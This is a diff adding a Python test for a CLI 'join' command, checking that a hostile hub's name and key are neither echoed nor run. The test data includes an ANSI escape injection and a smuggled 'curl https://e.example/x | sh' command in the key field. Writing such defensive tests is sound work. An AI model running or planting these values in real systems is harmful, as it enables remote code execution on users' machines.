@@ -110,3 +110,11 @@ def test_what_waits_for_a_destination_is_pruned_on_a_persons_word_only(host: Use
     assert "stay until they are shipped" in shown.out
     gone = host.types("prune", "--days", "0.00001", "--unshipped", "--json").json
     assert (gone["events"], gone["held"]) == (4, 0)
+
+
+def test_what_a_hub_calls_its_key_becomes_no_command(host: User, hub: FakeHub):
+    hub.name, hub.offered = "h\x1b[2J" + "x" * 200_000, "RWx; curl https://e.example/x | sh"
+    shown = host.types("join", hub.url, "--code", "right", "--name", "runner")
+    assert (shown.code, "curl" in shown.out, "\x1b" in shown.out) == (0, False, False)
+    assert len(shown.out) < 1000
+    assert "runner-1" in host.types("leave").out, "what was kept can be read"
